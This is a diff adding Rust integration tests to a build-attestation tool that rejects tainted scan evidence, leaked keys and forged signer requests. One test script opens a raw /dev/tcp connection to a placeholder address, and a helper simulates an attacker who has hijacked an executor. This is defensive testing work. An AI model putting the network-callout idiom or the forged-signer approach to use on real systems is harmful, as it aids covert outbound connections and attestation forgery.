@@ -13,14 +13,22 @@ mod service;
 mod world;
 
 use plimsoll_attest::{Bundle, TrustRoot, Verified, seal};
-use plimsoll_engine::{fetch::Lock, signer::Key as _};
-use plimsoll_model::{Code, Digest, Outcome, Role, record::Material, sensitivity};
+use plimsoll_engine::{
+    fetch::Lock,
+    ports::{Exit, Signer as _},
+    signer::{CloseCheck, Key as _, Observed, Open, Request, Response},
+};
+use plimsoll_model::{
+    Code, Digest, Outcome, Role, RunId, Timestamp,
+    record::{IsolationRecord, Material},
+    sensitivity,
+};
 use plimsoll_policy::{DossierParts, Observed, Start, Verdict, dossier, permit};
-use plimsoll_sign::RoleKeys;
+use plimsoll_sign::{RoleKeys, SignerProcess};
 use plimsoll_testkit::SshKey;
 use service::Shop;
 use std::{
-    collections::BTreeSet,
+    collections::{BTreeMap, BTreeSet},
     fs,
     path::{Path, PathBuf},
     process::Stdio,
@@ -429,4 +437,191 @@ fn a_release_that_this_machine_has_left_behind() {
     processes::until("the older release serves", || shop.answer().as_deref() == Some("v1 again"));
     shop.world.plimsoll(&["stop", "shop@local"]).ok();
     supervisor.wait().unwrap();
+}
+
+const CLEAN: &str =
+    r#"{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"lint","rules":[{"id":"a"}]}},"results":[]}]}"#;
+
+/// An adapter that runs this script and then reports this, as an item of `evidence:`.
+fn adapter(script: &str, report: &str) -> String {
+    format!(
+        "  - adapter: lint\n    tool: sh\n    run: |\n      printf '%s' '{report}' > report/lint.sarif\n      {script}\n    \
+         report: {{sarif: report/lint.sarif}}\n"
+    )
+}
+
+/// A run whose only evidence is that adapter.
+fn adapted(script: &str, report: &str) -> World {
+    let rest = format!("evidence:\n{}", adapter(script, report));
+    World::new(&world::pipeline_with("echo x > out/x", "out: [out]", &rest))
+}
+
+fn run(world: &World) -> impl Fn(&[&str]) -> Ran + '_ {
+    move |without| world.json(&[without, &["run"]].concat())
+}
+
+#[test]
+fn a13b_a_scanner_that_asks_for_the_network() {
+    let world = adapted("bash -c 'echo x > /dev/tcp/192.0.2.1/443' || true", CLEAN);
+    twins("network-attempts", &["E-EVIDENCE-TAINTED"], run(&world));
+}
+
+#[test]
+fn a13g_a_tool_that_nobody_listed() {
+    let shop = Shop::from(&["local"], |world| {
+        world.repository.write_executable("service", &*service::EXECUTABLE);
+        world.repository.write("plimsoll.yaml", service::service_pipeline() + &adapter("true", CLEAN));
+    });
+    shop.world.change_delivery("environments/local/environment.yaml", |text| {
+        let listed = Digest::of(b"the tool that somebody looked at");
+        text.replace("lint: {block:", &format!("lint: {{tool: \"{listed}\", block:"))
+    });
+    shop.world.json(&["run"]).ok();
+    twins("scan-tool", &["E-EVIDENCE-TOOL"], promote(&shop));
+}
+
+#[test]
+fn a13h_a_report_about_another_revision() {
+    let other = format!(r#""versionControlProvenance":[{{"revisionId":"{}"}}],"results""#, "0".repeat(40));
+    let world = adapted("true", &CLEAN.replace("\"results\"", &other));
+    twins("report-revision", &["E-EVIDENCE-SUBJECT"], run(&world));
+}
+
+#[test]
+fn a20d_a_pushed_secret() {
+    let world = World::empty();
+    let key = fs::read(SshKey::generate().private_path()).unwrap();
+    world.repository.write("key.pem", key);
+    world.repository.git(&["add", "-A"]);
+    let ask = |without: &[&str]| world.json(&[without, &["hook", "pre-commit"]].concat());
+    twins("pushed-secret", &["E-SRC-SECRET"], ask);
+}
+
+/// The report has a rule and says nothing of results: a tool that could not start.
+#[test]
+fn a31a_an_empty_report() {
+    let world = adapted("true", &CLEAN.replace(r#","results":[]"#, ""));
+    twins("report-empty", &["E-EVIDENCE-EMPTY"], run(&world));
+}
+
+#[test]
+fn a31g_a_flag_of_the_pipeline() {
+    let flag = r#""invocations":[{"executionSuccessful":true}],"properties":{"passed":true},"results""#;
+    let world = adapted("exit 1", &CLEAN.replace("\"results\"", flag));
+    twins("report-exit", &["E-EVIDENCE-SELF"], run(&world));
+}
+
+const LOCK: &str = "version = 4\n\n[[package]]\nname = \"shelf\"\nversion = \"1.0.0\"\n\
+                    source = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
+
+/// Takes advisories into use whose newest record is of this day.
+fn import(world: &World, day: &str) {
+    let directory = world.scratch("marker", b"").with_file_name(format!("osv-{day}"));
+    fs::create_dir(&directory).unwrap();
+    let record = format!(
+        r#"{{"id":"RUSTSEC-2021-0003","modified":"{day}T00:00:00Z","affected":[{{"package":{{"ecosystem":"crates.io","name":"other"}},
+            "ranges":[{{"type":"SEMVER","events":[{{"introduced":"0.6.3"}},{{"fixed":"1.6.1"}}]}}]}}]}}"#
+    );
+    fs::write(directory.join("RUSTSEC-2021-0003.json"), record).unwrap();
+    world.json(&["advisories", "import", directory.to_str().unwrap()]).ok();
+}
+
+#[test]
+fn a31d_old_advisories() {
+    let shop = Shop::from(&["local"], |world| {
+        world.repository.write_executable("service", &*service::EXECUTABLE);
+        world.repository.write("plimsoll.yaml", service::service_pipeline() + "  - {scan: [dependencies]}\n");
+        world.repository.write("Cargo.lock", LOCK);
+    });
+    shop.world.change_delivery("environments/local/environment.yaml", |text| {
+        text.replace("dependencies: {block: high}", "dependencies: {block: high, database-age: 24h}")
+    });
+    import(&shop.world, "2023-06-13");
+    shop.world.json(&["run"]).ok();
+    twins("scan-age", &["E-EVIDENCE-STALE"], promote(&shop));
+}
+
+/// Somebody who has taken an executor over: speaks to the real signers, each time in a run of its own.
+fn forged(world: &World, number: u8, without: &[&str], report: &Path) -> Vec<Code> {
+    let repository = world.repository.path();
+    let signer = |role: Role| {
+        let name = role.to_string();
+        let words = ["__signer", "--role", &name, "--repository", repository.to_str().unwrap()];
+        SignerProcess::start(role, world.command(&[without, &words].concat())).unwrap()
+    };
+    let open = Open {
+        run: RunId::from_random([number; 16]),
+        requested: "HEAD".into(),
+        reference: Some("refs/heads/main".into()),
+        commit: world.repository.head(),
+        subdirectory: None,
+        parameters: BTreeMap::new(),
+    };
+    let (mut builder, mut scanner) = (signer(Role::Builder), signer(Role::Scanner));
+    for signer in [&mut builder, &mut scanner] {
+        let opened = signer.ask(&Request::Open(open.clone())).unwrap();
+        assert!(matches!(opened, Response::Opened(_)), "{opened:?}");
+    }
+    let bytes = fs::read(report).unwrap();
+    let blob = Digest::of(&bytes);
+    fs::write(world.blob(&blob.to_string().into()), bytes).unwrap();
+    let isolation = IsolationRecord {
+        backend: "plimsoll".into(),
+        namespaces: vec![],
+        landlock_abi: 0,
+        seccomp: None,
+        unprivileged: true,
+        own_uid: true,
+        limits: BTreeMap::new(),
+        network_attempts: Some(0),
+    };
+    let now = Timestamp::now();
+    let close = CloseCheck {
+        check: "dependencies".parse().unwrap(),
+        attempt: 1,
+        observed: Observed { exit: Exit::Status(0), log: blob, isolation, started: now, finished: now },
+        report: Some(blob),
+        artifact: None,
+        tool: Some(blob),
+    };
+    match scanner.ask(&Request::CloseCheck(close)).unwrap() {
+        Response::Closed(closed) => closed.reasons.iter().map(|reason| reason.code).collect(),
+        other => panic!("{other:?}"),
+    }
+}
+
+/// A world with advisories of two days, and a report of a scan with the older ones.
+fn outdated() -> (World, PathBuf) {
+    let rest = "evidence:\n  - {scan: [dependencies]}\n";
+    let world = World::empty();
+    world.repository.write("Cargo.lock", LOCK);
+    world.commit_pipeline(&world::pipeline_with("echo x > out/x", "out: [out]", rest));
+    import(&world, "2023-06-13");
+    world.json(&["run"]).ok();
+    let report = world.scratch("report.sarif", b"");
+    world.plimsoll(&["scan", "dependencies", "--report", report.to_str().unwrap()]).ok();
+    (world, report)
+}
+
+/// A31d: a scan says that it looked with other data than is in use.
+#[test]
+fn a31d_the_advisories_that_a_report_names() {
+    let (world, report) = outdated();
+    assert_eq!(forged(&world, 1, &[], &report), [], "benign twin");
+    import(&world, "2026-01-01");
+    assert_eq!(forged(&world, 2, &[], &report), [Code::EvidenceSelf]);
+    assert_eq!(forged(&world, 3, &["--without-control", "scan-database"], &report), []);
+}
+
+/// A31c: a scan says that it applied other rules than this program has.
+#[test]
+fn a31c_the_rules_that_a_report_names() {
+    let (world, report) = outdated();
+    let rules = world.json(&["scan", "dependencies"]).value()["reports"][0]["rules_digest"].clone();
+    let honest = fs::read_to_string(&report).unwrap();
+    let fewer = honest.replace(text(&rules), &Digest::of(b"fewer rules").to_string());
+    assert_ne!(honest, fewer);
+    fs::write(&report, fewer).unwrap();
+    assert_eq!(forged(&world, 2, &[], &report), [Code::EvidenceSelf]);
+    assert_eq!(forged(&world, 3, &["--without-control", "scan-rules"], &report), []);
 }
